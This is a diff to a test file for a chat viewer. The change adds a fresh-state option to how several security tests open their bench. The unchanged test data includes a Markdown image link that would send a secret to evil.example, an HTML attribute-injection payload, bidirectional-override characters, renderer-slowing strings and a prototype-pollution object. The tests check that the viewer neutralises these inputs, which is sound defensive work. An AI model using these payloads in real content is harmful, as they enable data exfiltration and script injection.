@@ -19,7 +19,7 @@ const html =
 const log = ({ page }: ChatPage) => page.getByRole('log', { name: 'Conversation' });
 
 async function showText(text: string): Promise<ChatPage> {
-  const opened = await bench.open();
+  const opened = await bench.open({ isFresh: true });
   await opened.show(chat({ turns: [turn(1, text, { items: [says(text)] })] }));
   return opened;
 }
@@ -45,7 +45,7 @@ test('HTML in a message is shown as it was written and does nothing', async () =
 });
 
 test('HTML in every other field does nothing either', async () => {
-  const opened = await bench.open();
+  const opened = await bench.open({ isFresh: true });
   const events: AgentEvent[] = [
     { type: 'unknown', kind: html, raw: { [html]: html }, line: 1, foreignSessionId: html },
     {
@@ -168,7 +168,7 @@ for (const image of [
   '[![secret](https://evil.example/log?d=secret)](https://evil.example)',
 ]) {
   test(`Markdown never loads an image: ${image.replaceAll('\n', ' ')}`, async () => {
-    const opened = await bench.open();
+    const opened = await bench.open({ isFresh: true });
     const requests: string[] = [];
     opened.page.on('request', (request) => requests.push(request.url()));
     await opened.show(chat({ turns: [turn(1, 'Hi', { items: [says(image)] })] }));
@@ -184,7 +184,7 @@ test('characters that reorder or hide text are shown by name', async () => {
 });
 
 test('a suggestion is sent as it came, though its hidden characters are shown', async () => {
-  const opened = await bench.open();
+  const opened = await bench.open({ isFresh: true });
   await opened.show(chat({ turns: [turn(1, 'Hi', { items: [suggests(['a\u202Eb'])] })] }));
   await opened.page.getByRole('button', { name: 'a⟨U+202E⟩b' }).click();
   assert.deepEqual((await opened.posted()).at(-1), { type: 'sendText', text: 'a\u202Eb' });
@@ -192,7 +192,7 @@ test('a suggestion is sent as it came, though its hidden characters are shown', 
 
 for (const markup of ['whatsapp', 'plain', 'markdown'] as const) {
   test(`HTML does nothing in the markup ${markup} either`, async () => {
-    const opened = await bench.open();
+    const opened = await bench.open({ isFresh: true });
     const agent = { ...demoAgent, markup };
     const text = `*${html}* \`${html}\` _x_ https://evil.example/"onload="window.pwned=1`;
     await opened.show(chat({ agent, turns: [turn(1, 'Hi', { items: [says(text)] })] }));
@@ -201,7 +201,7 @@ for (const markup of ['whatsapp', 'plain', 'markdown'] as const) {
 }
 
 test('text made to slow a Markdown renderer down is shown', async () => {
-  const opened = await bench.open();
+  const opened = await bench.open({ isFresh: true });
   const texts = ['['.repeat(20_000), '>'.repeat(20_000), '*a_'.repeat(6_000), '`'.repeat(20_000)];
   await opened.show(chat({ turns: [turn(1, 'Hi', { items: texts.map((text) => says(text)) })] }));
   assert.equal(await log(opened).locator('.theirs').count(), texts.length);
@@ -216,7 +216,7 @@ test('a message of a megabyte is shown in part, and in whole on request', async 
 });
 
 test('keys that poison prototypes are plain data', async () => {
-  const opened = await bench.open();
+  const opened = await bench.open({ isFresh: true });
   const raw: unknown = JSON.parse('{"__proto__": {"polluted": 1}, "constructor": 1}');
   await opened.show(
     chat({
